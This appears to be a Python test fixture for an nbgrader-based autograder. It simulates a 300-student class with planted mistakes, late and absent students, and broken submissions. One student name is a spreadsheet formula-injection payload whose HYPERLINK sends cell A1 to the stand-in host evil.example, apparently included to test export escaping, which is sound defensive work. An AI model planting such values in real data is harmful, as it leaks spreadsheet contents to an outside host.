"""A class of 300 of which everything is known: who made which mistake, who is late, who is lost."""

import functools
from collections import Counter
from dataclasses import replace

import numpy as np
from nbgrader.api import Gradebook

from autograder.exercises import CATALOGUE
from autograder.mistakes import identifier_of
from autograder.sample_class import Student, cell_for, sample_class, submit
from tests.grading.courses import ASSIGNMENT, Course

ABSENT = [f"absent-{number}" for number in range(5)]  # on the roster, and nothing handed in
LATE = [f"learner-{number:03}" for number in range(20, 27)]
# Others hand in the work of these members of the sample class.
OTHERS = {"empty": 12, "infinite_loop": 6, "not_json": 4, "missing_notebook": 3}
SOLVERS = 270
# A name that is a formula, with a comma, a quote, a line's end and a face in it.
HOSTILE = '=HYPERLINK("http://evil.example?x="&A1;"see"),\n🦊'
DUE, IN_TIME, TOO_LATE = (f"2026-11-0{day} 12:00:00 UTC" for day in (2, 1, 3))


@functools.cache
def members():
    """Who hands in: most with mistakes drawn by their strength, some with nothing to judge."""
    everyone = {one.name: one for one in sample_class(ASSIGNMENT)}
    solved = [_solver(number, everyone["all_right"]) for number in range(SOLVERS)]
    others = [
        replace(everyone[kind], name=f"{kind.replace('_', '-')}-{number}")
        for kind, count in OTHERS.items()
        for number in range(count)
    ]
    return [*solved, *others]


def _solver(number, all_right):
    """A student who gets what is easy for their strength, and makes a planted mistake elsewhere.

    The exercises that others call are left right, and values on paper stand as numbers, so that
    each mistake stands for itself.
    """
    rng = np.random.default_rng(number)
    strength = number / SOLVERS
    exercises = [CATALOGUE[name] for name in sorted(all_right.right)]
    used = {name for exercise in exercises for name in exercise.uses}
    wrong = {}
    for place, exercise in enumerate(exercises):
        hardness = 0.1 + 0.7 * place / len(exercises)
        if exercise.name not in used and rng.random() < hardness * 1.5 * (1 - strength):
            names = list(exercise.mistakes)
            wrong[exercise.name] = names[min(rng.geometric(0.5) - 1, len(names) - 1)]
    answers = dict(all_right.answers)
    for exercise in exercises:
        if exercise.name in wrong:
            code = cell_for(exercise, exercise.mistakes[wrong[exercise.name]])
            answers[exercise.name] = f"# learner-{number:03} wrote this\n{code}"
        elif exercise.is_plain:
            answers[exercise.name] = cell_for(exercise, exercise.answer)
    return Student(
        f"learner-{number:03}",
        answers,
        all_right.right - wrong.keys(),
        {exercise: identifier_of(name) for exercise, name in wrong.items()},
    )


def made():
    """How often each mistake was planted, by exercise and identifier."""
    return Counter(pair for one in members() for pair in one.mistakes.items())


def hand_in(course):
    """Put the class's work where `nbgrader collect` would, and its roster into the gradebook."""
    for one in members():
        submit(course.folder, ASSIGNMENT, one)
        when = TOO_LATE if one.name in LATE else IN_TIME
        (course.submission(one.name) / "timestamp.txt").write_text(when)
    with Gradebook(course.db_url) as gradebook:
        gradebook.update_or_create_assignment(ASSIGNMENT, duedate=DUE)
        for name in ABSENT:
            gradebook.add_student(name)
        gradebook.add_student("learner-000", first_name=HOSTILE, last_name="Doe")


def graded_class(folder, template):
    """The class after `autograder grade`."""
    course = Course(folder, template)
    course.configure("c.RefereeSettings.cell_seconds = 2  # some loop for ever")
    hand_in(course)
    done = course.grade()
    assert done.returncode == 1, done.stderr  # some are no notebooks
    return course
